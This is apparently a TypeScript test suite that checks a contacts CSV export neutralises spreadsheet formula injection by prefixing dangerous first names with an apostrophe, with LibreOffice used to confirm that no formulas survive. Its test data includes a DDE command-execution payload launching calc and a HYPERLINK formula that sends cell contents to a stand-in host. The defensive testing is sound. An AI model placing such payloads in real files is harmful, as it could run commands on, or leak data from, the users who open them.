import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { recordsOfCsv } from '../support/csv.ts';
import { describeOnEachDatabase } from '../support/databases.ts';
import { run } from '../support/run-command.ts';
import { startSidecar, type TestSidecar } from '../support/sidecar.ts';

describeOnEachDatabase('The export of contacts to spreadsheets', (product) => {
  let sidecar: TestSidecar;
  before(async () => {
    sidecar = await startSidecar(product);
  });
  after(() => sidecar.stop());

  it('has an apostrophe before each of 500 texts that a spreadsheet would run', async () => {
    const texts = dangerousTexts();
    for (let at = 0; at < texts.length; at += 100) {
      const batch = texts.slice(at, at + 100).map((text) => ({ firstname: text, lastname: 'Low' }));
      await sidecar.api('POST', '/api/contacts/batch/new', batch);
    }
    const csv: string = (await sidecar.api('GET', '/api/contacts/export')).body;
    assert.deepEqual(
      recordsOfCsv(csv).map(({ firstname }) => firstname),
      texts.map((text) => `'${text}`),
    );
    assert.deepEqual(await formulasIn(csv), []);
    // So that a spreadsheet which runs nothing would be seen.
    assert.equal((await formulasIn(csv.replaceAll(`'=1+1`, '=1+1'))).length > 0, true);
  });
});

function dangerousTexts(): string[] {
  const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '"=', "'=", '" +', '\'" @', '"\t='];
  const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example?"&A1)', 'SUM(A1:A9)'];
  return Array.from({ length: 500 }, (_, at) => {
    const start = starts[at % starts.length];
    return `${start}${bodies[at % bodies.length]}${at}`;
  });
}

/** What LibreOffice takes for a formula when it opens the file. */
async function formulasIn(csv: string): Promise<string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'mtc-spreadsheet-'));
  try {
    const file = join(folder, 'people.csv');
    writeFileSync(file, csv);
    // Commas, double quotes, UTF-8; formulas are run, as they are by those who just open a file.
    const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
    const words = ['--headless', `-env:UserInstallation=file://${folder}/profile`];
    const ask = [`--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder, file];
    await run('soffice', [...words, ...ask]);
    const sheet = readFileSync(join(folder, 'people.fods'), 'utf8');
    assert.match(sheet, /lastname/);
    return sheet.match(/table:formula="[^"]*"/g) ?? [];
  } finally {
    rmSync(folder, { recursive: true });
  }
}
